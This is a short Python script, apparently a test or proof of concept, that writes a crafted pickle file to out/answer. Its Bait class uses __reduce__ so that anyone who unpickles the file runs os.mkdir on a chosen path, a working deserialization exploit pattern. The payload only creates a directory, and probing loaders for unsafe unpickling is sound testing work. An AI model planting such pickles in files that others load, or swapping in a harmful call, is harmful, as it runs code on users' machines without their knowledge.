"""Hand back a pickle that runs code where it is loaded: `PATH`, which it makes."""

import os
import pickle
import sys
from pathlib import Path


class Bait:
    def __reduce__(self):
        return os.mkdir, (sys.argv[1],)


print("trying", flush=True)
Path("out/answer").write_bytes(pickle.dumps(Bait()))
